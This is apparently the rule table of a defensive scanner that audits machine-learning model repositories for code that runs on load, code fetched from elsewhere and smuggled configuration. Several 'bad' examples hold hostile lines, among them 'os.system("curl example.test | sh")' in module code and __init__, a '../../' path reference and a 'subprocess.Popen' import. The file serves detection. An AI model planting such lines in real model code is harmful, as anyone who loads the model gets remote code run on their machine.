const VLLM = [
  { id: 'CVE-2025-66448', url: 'https://nvd.nist.gov/vuln/detail/CVE-2025-66448' },
  { id: 'CVE-2026-22807', url: 'https://nvd.nist.gov/vuln/detail/CVE-2026-22807' },
  { id: 'CVE-2026-27893', url: 'https://nvd.nist.gov/vuln/detail/CVE-2026-27893' },
] as const;
const CWE_94 = { id: 'CWE-94', url: 'https://cwe.mitre.org/data/definitions/94.html' } as const;
const CWE_829 = { id: 'CWE-829', url: 'https://cwe.mitre.org/data/definitions/829.html' } as const;
const SUPPLY_CHAIN = { id: 'OWASP-LLM03' } as const;
const MALICIOUS_MODEL = {
  id: 'AML.T0011',
  url: 'https://atlas.mitre.org/techniques/AML.T0011',
} as const;

const WHY_FLAG =
  'Transformers, diffusers and sentence-transformers run this code when the model is loaded with trust_remote_code=True. Several vLLM versions before 0.18.0 ran it without the flag.';

export const RULES = {
  'runs-on-import': {
    title: 'Code of the model runs commands or programs when it is loaded',
    severity: 'critical',
    message: '{file}, which {key} of {config} loads, calls {callee} on import, which {does}',
    why: `${WHY_FLAG} Nothing has to be called: importing the file is enough. Defining a model needs neither commands nor connections nor code from text.`,
    fix: 'Do not load the model, with or without trust_remote_code. If it was loaded, treat the machine as taken over, and report the repository.',
    references: [MALICIOUS_MODEL, ...VLLM, CWE_94, SUPPLY_CHAIN],
    example: {
      bad: 'modeling_x.py: os.system("curl example.test | sh") at module level',
      good: 'modeling_x.py: classes and functions only',
    },
  },
  'runs-in-method': {
    title: 'Class of the model runs commands or programs when it is loaded or used',
    severity: 'high',
    message:
      '{method} of {file}, which {key} of {config} loads, runs {when} and calls {callee}, which {does}',
    why: `${WHY_FLAG} The loader makes an object of the class and calls this method of it. A model needs neither commands nor connections nor code from text for that.`,
    fix: 'Do not load the model before you have read the call. Ask the publisher for the weights in a form that a library loads by itself.',
    references: [MALICIOUS_MODEL, ...VLLM, CWE_94, SUPPLY_CHAIN],
    example: {
      bad: 'def __init__(self, config): os.system("curl example.test | sh")',
      good: 'def __init__(self, config): self.layer = nn.Linear(8, 2)',
    },
  },
  'runs-when-called': {
    title: 'Code of the model can run commands or programs',
    severity: 'medium',
    message:
      '{method} of {file}, which {key} of {config} loads, calls {callee}, which {does}; what calls it is not known',
    why: `${WHY_FLAG} Nothing was found that calls this function, but attributes, subclasses and the library itself can.`,
    fix: 'Read the call, what it is given, and who calls it, before you load the model.',
    references: [MALICIOUS_MODEL, CWE_94, SUPPLY_CHAIN],
    example: {
      bad: 'def convert(self, path): subprocess.run(["ffmpeg", "-i", path])',
      good: 'def convert(self, path): return soundfile.read(path)',
    },
  },
  'acts-on-import': {
    title: 'Code of the model does more than define it',
    severity: 'high',
    message: '{file}, which {key} of {config} loads, calls {callee} on import, which {does}',
    why: `${WHY_FLAG} Importing the file is enough for this call, before anybody has used the model.`,
    fix: 'Read the call and what it is given. Load the model only in a sandbox until you know what it is for.',
    references: [MALICIOUS_MODEL, ...VLLM, CWE_94],
    example: {
      bad: 'modeling_x.py: torch.load("cache.bin") at module level',
      good: 'modeling_x.py: classes and functions only',
    },
  },
  'code-elsewhere': {
    title: 'Code comes from another repository',
    severity: 'high',
    message: '{key} of {config} takes its code from {repository}, which is not here and not pinned',
    why: 'The code is fetched from the other repository in whatever state it is in on that day. Its owner can change what your model runs, and a pinned revision of this repository does not help.',
    fix: 'Copy the code into the model after reading it, or pass code_revision with a full commit hash.',
    references: [CWE_829, ...VLLM, SUPPLY_CHAIN],
    example: {
      bad: '"auto_map": {"AutoModel": "someone/else--modeling_x.Model"}',
      good: '"auto_map": {"AutoModel": "modeling_x.Model"}',
    },
  },
  'code-outside-folder': {
    title: 'Code reference leads out of the folder',
    severity: 'high',
    message: '{key} of {config} names code outside of the model: {reference}',
    why: 'The reference is a path that leaves the folder of the model. A loader that joins it without a look runs a file of the host.',
    fix: 'Do not load the model. No library writes such a reference.',
    references: [{ id: 'CWE-22', url: 'https://cwe.mitre.org/data/definitions/22.html' }, CWE_94],
    example: {
      bad: '"auto_map": {"AutoModel": "../../tmp/x.Model"}',
      good: '"auto_map": {"AutoModel": "modeling_x.Model"}',
    },
  },
  'dangerous-import': {
    title: 'Configuration has its loader import a dangerous name',
    severity: 'high',
    message: '{key} of {config} has its loader import {name}, which {does}',
    why: 'The loader imports the module and looks the class up by name. Older versions of sentence-transformers and PEFT did so for any module.',
    fix: 'Do not load the model. No library writes such a configuration.',
    references: [
      { id: 'CWE-470', url: 'https://cwe.mitre.org/data/definitions/470.html' },
      SUPPLY_CHAIN,
    ],
    example: {
      bad: '"type": "subprocess.Popen"',
      good: '"type": "sentence_transformers.models.Transformer"',
    },
  },
  'internal-kernel': {
    title: 'Configuration smuggles in code from the hub',
    severity: 'critical',
    message: '{key} of {config} names the repository {reference}',
    why: 'This field is for the library itself. Transformers 4.56 to 5.2 with the package kernels downloads and imports the repository named there whenever the model is loaded, whatever trust_remote_code says.',
    fix: 'Do not load the model. Use transformers 5.3.0 or later, and report the repository.',
    references: [
      { id: 'CVE-2026-4372', url: 'https://nvd.nist.gov/vuln/detail/CVE-2026-4372' },
      CWE_829,
    ],
    example: {
      bad: '"_attn_implementation_internal": "someone/kernel"',
      good: '"attn_implementation": "sdpa"',
    },
  },
  'hub-kernel': {
    title: 'Attention implementation from the hub',
    severity: 'medium',
    message: '{key} of {config} names the kernel repository {reference}',
    why: 'Transformers downloads the compiled kernel and its Python code from that repository and runs them in the process that loads the model.',
    fix: 'Set attn_implementation to one of the built-in ones when loading, for example attn_implementation="sdpa".',
    references: [CWE_829, SUPPLY_CHAIN],
    example: {
      bad: '"attn_implementation": "someone/kernel"',
      good: '"attn_implementation": "sdpa"',
    },
  },
  'custom-code': {
    title: 'Model brings code of its own',
    severity: 'medium',
    message: 'loading {config} with trust_remote_code runs {files}; {found}',
    why: WHY_FLAG,
    fix: 'Read the files. Load with trust_remote_code=True only together with revision set to the commit you have read.',
    references: [...VLLM, CWE_829, SUPPLY_CHAIN],
    example: {
      bad: '"auto_map": {"AutoModel": "modeling_x.Model"}',
      good: '"model_type": "llama" without auto_map',
    },
  },
  'forced-trust': {
    title: 'Model switches trust on by itself',
    severity: 'medium',
    message: '{config} holds trust_remote_code: true',
    why: 'Whether code of a model may run is for the person who loads it to say. Libraries that pass these settings on would take the answer from the model.',
    fix: 'Remove the setting from the file.',
    references: [
      ...VLLM,
      { id: 'CWE-693', url: 'https://cwe.mitre.org/data/definitions/693.html' },
    ],
    example: { bad: '"model_args": {"trust_remote_code": true}', good: '"model_args": {}' },
  },
  'installed-plugin': {
    title: 'Model has its loader install a package',
    severity: 'medium',
    message: '{key} of {config} names the package {reference}',
    why: 'ModelScope installs the plugins that a model lists before it loads it. An installation runs code of the package.',
    fix: 'Install what the model needs yourself, from a lock file, and remove the list.',
    references: [CWE_829, SUPPLY_CHAIN],
    example: { bad: '"plugins": ["some-package"]', good: '"plugins": []' },
  },
  'outside-module': {
    title: 'Class from a module that is not here',
    severity: 'low',
    message: '{key} of {config} names {name}, which belongs to no library known here',
    why: 'The loader imports a module of that name from wherever it finds one. What it does can not be told from the repository.',
    fix: 'Find out which package is meant, and install a pinned version of it.',
    references: [{ id: 'CWE-470', url: 'https://cwe.mitre.org/data/definitions/470.html' }],
    example: {
      bad: '"type": "my_package.Pooling"',
      good: '"type": "sentence_transformers.models.Pooling"',
    },
  },
  'missing-code': {
    title: 'Code of the model is not there',
    severity: 'low',
    message: '{key} of {config} names {file}, which is not there',
    why: 'The model needs code that could not be examined. Whoever adds the file later decides what it does.',
    fix: 'Get the complete repository and audit it again.',
    references: [SUPPLY_CHAIN],
    example: {
      bad: '"auto_map": {"AutoModel": "modeling_x.Model"} without modeling_x.py',
      good: 'both files together',
    },
  },
} as const;
